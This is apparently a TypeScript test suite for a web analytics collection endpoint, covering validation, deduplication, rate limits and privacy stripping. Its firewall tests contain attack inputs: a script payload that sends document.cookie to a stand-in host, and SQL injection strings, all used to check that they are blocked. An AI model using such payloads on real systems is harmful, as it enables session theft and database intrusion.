import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';

import { ClickstreamFlusher, SpoolSource, loadClickstreamSettings } from '@threadline/clickstream';
import { createTestDatabase } from '@threadline/db/testing';
import { LocalLakeStorage, lakeRoot, withDuckDb } from '@threadline/lake';

import { makeEvent, startCollectApp, type CollectHarness } from './collect.test-helpers.js';

async function flushToLake(dataDir: string): Promise<number> {
  const settings = loadClickstreamSettings(dataDir, {});
  const flusher = new ClickstreamFlusher({ source: new SpoolSource(settings.spoolDir), storage: new LocalLakeStorage(lakeRoot(dataDir)), stateDir: settings.flusherStateDir });
  try {
    await flusher.recover();
    const results = await flusher.drain();
    return results.reduce((n, r) => n + r.events, 0);
  } finally {
    flusher.close();
  }
}

async function lakeRows(dataDir: string, where = 'true'): Promise<Array<Record<string, unknown>>> {
  const glob = path.join(lakeRoot(dataDir), 'raw', 'clickstream', '**', '*.parquet');
  return withDuckDb((db) => db.all(`SELECT * FROM read_parquet(?, hive_partitioning = true) WHERE ${where} ORDER BY event_time`, [glob]));
}

describe('POST /collect', () => {
  let h: CollectHarness;
  before(async () => {
    h = await startCollectApp({ THREADLINE_COLLECT_RATE: '0' });
    // the default: one worker thread parses and validates bodies (bodies go to it once it is ready)
    assert.ok(h.app.collectWorkers, 'a worker thread by default');
    await h.app.collectWorkers.whenReady();
  });
  after(async () => h.close());

  it('acknowledges a JSON batch with 202 and the events reach the lake without personal data', async () => {
    const events = [makeEvent({ userId: 'customer-42' }), makeEvent({ type: 'product_view', props: { productId: 'p-1' } })];
    const response = await h.app.inject({ method: 'POST', url: '/collect', payload: { events }, headers: { 'user-agent': 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) Mobile', 'x-forwarded-for': '203.0.113.77' }, remoteAddress: '127.0.0.1' });
    assert.equal(response.statusCode, 202, response.body);
    assert.deepEqual(response.json(), { accepted: 2, duplicates: 0, rejected: [] });
    assert.ok((await flushToLake(h.dataDir)) >= 2);
    const rows = await lakeRows(h.dataDir, `event_id IN ('${events[0]?.id}', '${events[1]?.id}')`);
    assert.equal(rows.length, 2);
    const first = rows.find((r) => r.event_type === 'page_view');
    assert.ok(first);
    assert.equal(first.path, '/products/linen-shirt', 'query string stripped');
    assert.equal(first.referrer_host, 'www.example.com');
    assert.equal(first.utm_source, 'newsletter');
    assert.equal(first.region, 'south_america');
    assert.equal(first.ip_prefix, '203.0.113.0/24');
    assert.equal(first.is_bot, false);
    // anonymous request: a userId written into the event is ignored, the user comes from the session
    assert.equal(first.user_pseudonym, null);
    // DuckDB reads the Hive key dt= back as a DATE
    assert.ok(first.dt instanceof Date);
    assert.equal(first.dt.toISOString().slice(0, 10), new Date(String(events[0]?.ts)).toISOString().slice(0, 10));
    const text = JSON.stringify(rows, (_k, v: unknown) => (typeof v === 'bigint' ? String(v) : v));
    assert.ok(!text.includes('customer-42') && !text.includes('203.0.113.77') && !text.includes('a@b.c'));
  });

  it('rejects invalid events one by one with reasons, keeps them in the dead-letter file and accepts the rest', async () => {
    const good = makeEvent();
    const events = [
      good,
      makeEvent({ type: 'teleport' }),
      makeEvent({ id: 'not-a-uuid' }),
      makeEvent({ ts: new Date(Date.now() + 3600_000).toISOString() }),
      makeEvent({ ts: '2001-01-01T00:00:00Z' }),
      makeEvent({ colour: 'red' }),
      makeEvent({ timeZone: 'Mars/Olympus' }),
      'just a string',
    ];
    const response = await h.app.inject({ method: 'POST', url: '/collect', payload: { events } });
    assert.equal(response.statusCode, 202);
    const body = response.json();
    assert.equal(body.accepted, 1);
    const reasons = body.rejected.map((r: { index: number; reason: string }) => `${r.index}:${r.reason.split(':')[0]}`);
    assert.deepEqual(reasons, ['1:type', '2:id', '3:ts', '4:ts', '5:colour', '6:timeZone', '7:event']);
    assert.equal(body.rejected[0].id, (events[1] as Record<string, unknown>).id); // index 1 is an event object built above
    const deadDir = path.join(h.dataDir, 'spool', 'dead-letter');
    let lines: string[] = [];
    for (let i = 0; i < 50 && lines.length < 7; i += 1) {
      await new Promise((r) => setTimeout(r, 20));
      const files = await readdir(deadDir).catch(() => []);
      lines = (await Promise.all(files.map((f) => readFile(path.join(deadDir, f), 'utf8')))).join('').trim().split('\n').filter(Boolean);
    }
    assert.equal(lines.length, 7);
    assert.match(lines[0] ?? '', /unknown event type/);
  });

  it('accepts NDJSON and rejects a broken line by its number', async () => {
    const a = makeEvent();
    const b = makeEvent();
    const payload = `${JSON.stringify(a)}\n{not json\n${JSON.stringify(b)}\n`;
    const response = await h.app.inject({ method: 'POST', url: '/collect', payload, headers: { 'content-type': 'application/x-ndjson' } });
    assert.equal(response.statusCode, 202);
    assert.deepEqual(response.json(), { accepted: 2, duplicates: 0, rejected: [{ index: 1, reason: 'line 2: not valid JSON' }] });
  });

  it('accepts beacons sent as text/plain', async () => {
    const response = await h.app.inject({ method: 'POST', url: '/collect', payload: JSON.stringify({ events: [makeEvent()] }), headers: { 'content-type': 'text/plain;charset=UTF-8' } });
    assert.equal(response.statusCode, 202);
  });

  it('stores a retried batch once, within a process and across restarts', async () => {
    const events = [makeEvent(), makeEvent()];
    const first = await h.app.inject({ method: 'POST', url: '/collect', payload: { events } });
    const retry = await h.app.inject({ method: 'POST', url: '/collect', payload: { events } });
    assert.deepEqual(retry.json(), { accepted: 2, duplicates: 2, rejected: [] });
    assert.equal(first.statusCode, 202);
    await flushToLake(h.dataDir);
    // a new process has no memory of the ids: the flusher drops them against the lake partition
    const second = await startCollectApp({}, { dataDir: h.dataDir, db: h.db });
    const again = await second.app.inject({ method: 'POST', url: '/collect', payload: { events } });
    assert.deepEqual(again.json(), { accepted: 2, duplicates: 0, rejected: [] });
    await second.close();
    await flushToLake(h.dataDir);
    const rows = await lakeRows(h.dataDir, `event_id IN ('${events[0]?.id}', '${events[1]?.id}')`);
    assert.equal(rows.length, 2);
  });

  it('marks bots by user agent instead of dropping them', async () => {
    const event = makeEvent();
    const response = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: [event] }, headers: { 'user-agent': 'Googlebot/2.1 (+http://www.google.com/bot.html)' } });
    assert.equal(response.statusCode, 202);
    await flushToLake(h.dataDir);
    const [row] = await lakeRows(h.dataDir, `event_id = '${event.id}'`);
    assert.equal(row?.is_bot, true);
  });

  it('answers 413 for too many events or too many bytes, and 400 for a body without events', async () => {
    const many = Array.from({ length: 501 }, () => makeEvent());
    const tooMany = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: many } });
    assert.equal(tooMany.statusCode, 413);
    assert.equal(tooMany.json().error.code, 'PAYLOAD_TOO_LARGE');
    const huge = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: [makeEvent({ path: `/${'x'.repeat(1100 * 1024)}` })] } });
    assert.equal(huge.statusCode, 413);
    const shapeless = await h.app.inject({ method: 'POST', url: '/collect', payload: { items: [] } });
    assert.equal(shapeless.statusCode, 400);
    assert.equal(shapeless.json().error.field, 'events');
    const xml = await h.app.inject({ method: 'POST', url: '/collect', payload: '<x/>', headers: { 'content-type': 'application/xml' } });
    assert.equal(xml.statusCode, 415);
  });

  it('lets the WAF block attacks in event fields (403, nothing spooled) and lets ordinary text through', async () => {
    const attack = makeEvent({ type: 'search', props: { query: '<script>fetch("//evil.example/"+document.cookie)</script>' } });
    const blocked = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: [makeEvent(), attack] } });
    assert.equal(blocked.statusCode, 403, blocked.body);
    assert.equal(blocked.json().error.code, 'WAF_BLOCKED');
    assert.ok(!blocked.body.includes('script'), 'the rule and the value are not echoed');
    const ndjson = await h.app.inject({ method: 'POST', url: '/collect', payload: `${JSON.stringify(makeEvent({ utm: { source: "x' OR '1'='1" } }))}\n`, headers: { 'content-type': 'application/x-ndjson' } });
    assert.equal(ndjson.statusCode, 403, 'NDJSON batches too');
    const legit = makeEvent({ type: 'search', props: { query: "O'Neill linen jacket 100% cotton" } });
    const allowed = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: [legit] } });
    assert.equal(allowed.statusCode, 202, allowed.body);
    await flushToLake(h.dataDir);
    assert.equal((await lakeRows(h.dataDir, `event_id = '${String(attack.id)}'`)).length, 0);
    assert.equal((await lakeRows(h.dataDir, `event_id = '${String(legit.id)}'`))[0]?.search_query, "O'Neill linen jacket 100% cotton");
  });

  it('inspects every free-text field of a full batch: an attack in the last field of the last event is refused', async () => {
    // 500 events × 9 free-text fields: 4,500 values, more than the WAF's 2,000-value cap for generic bodies
    const events = Array.from({ length: 500 }, (_, i) =>
      makeEvent({
        type: 'search',
        path: `/products/${i}`,
        utm: { source: 'newsletter', medium: 'email', campaign: 'spring', term: 'linen', content: i === 499 ? "x' UNION SELECT password FROM users --" : 'hero' },
        props: { productId: `p${i}`, query: 'linen shirt' },
      }),
    );
    const blockedBefore = h.app.wafStats.blocked;
    const blocked = await h.app.inject({ method: 'POST', url: '/collect', payload: { events } });
    assert.equal(blocked.statusCode, 403, blocked.body);
    assert.equal(blocked.json().error.code, 'WAF_BLOCKED');
    assert.equal(h.app.wafStats.blocked, blockedBefore + 1);
  });

  it('logs one access_log event per API request with the route template', async () => {
    const probe = `/api/no-such-thing/${randomUUID()}`;
    await h.app.inject({ method: 'GET', url: probe });
    await new Promise((r) => setTimeout(r, 1200));
    await flushToLake(h.dataDir);
    const rows = await lakeRows(h.dataDir, "event_type = 'access_log' AND http_status = 404");
    assert.ok(rows.length >= 1);
    assert.equal(rows[0]?.tier, 'api');
    assert.ok(!JSON.stringify(rows, (_k, v: unknown) => (typeof v === 'bigint' ? String(v) : v)).includes(probe), 'raw URL never stored');
  });
});

describe('POST /collect rate limit', () => {
  let h: CollectHarness;
  before(async () => {
    h = await startCollectApp({ THREADLINE_COLLECT_RATE: '1', THREADLINE_COLLECT_BURST: '3' });
  });
  after(async () => h.close());

  // visitors reach the API through the web tier (loopback, a trusted proxy), which adds X-Forwarded-For
  const fromVisitor = (ip: string, events: unknown[]) => h.app.inject({ method: 'POST', url: '/collect', payload: { events }, headers: { 'x-forwarded-for': ip } });

  it('answers 429 with Retry-After once a client spends its burst', async () => {
    const first = await fromVisitor('203.0.113.20', [makeEvent(), makeEvent(), makeEvent()]);
    assert.equal(first.statusCode, 202);
    const second = await fromVisitor('203.0.113.20', [makeEvent()]);
    assert.equal(second.statusCode, 429);
    assert.equal(second.json().error.code, 'RATE_LIMITED');
    assert.ok(Number(second.headers['retry-after']) >= 1);
    const other = await fromVisitor('203.0.113.21', [makeEvent()]);
    assert.equal(other.statusCode, 202, 'limits are per client');
  });

  it("does not limit a tier's own batches (the web tier's access log carries every visitor's requests)", async () => {
    // straight from the tier: a trusted peer with no proxy header, as the web tier's access log posts
    for (let i = 0; i < 3; i += 1) {
      const batch = await h.app.inject({ method: 'POST', url: '/collect', payload: { events: [makeEvent(), makeEvent(), makeEvent()] } });
      assert.equal(batch.statusCode, 202, `tier batch ${i + 1}: ${batch.body}`);
    }
  });
});

describe('API tier shutdown', () => {
  it('appends the access-log events of the last requests before the spool closes', async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), 'tl-collect-close-'));
    const db = await createTestDatabase();
    try {
      const h = await startCollectApp({ THREADLINE_COLLECT_RATE: '0' }, { dataDir, db });
      const marker = randomUUID();
      const requests = 7;
      for (let i = 0; i < requests; i += 1) await h.app.inject({ method: 'GET', url: `/api/no-such-thing/${marker}-${i}` });
      // closed at once, well inside the access log's one-second buffer
      await h.close();
      await flushToLake(dataDir);
      const rows = await lakeRows(dataDir, "event_type = 'access_log' AND http_status = 404");
      assert.equal(rows.length, requests, 'every request answered before shutdown is in the lake');
    } finally {
      await db.close();
      await rm(dataDir, { recursive: true, force: true });
    }
  });
});
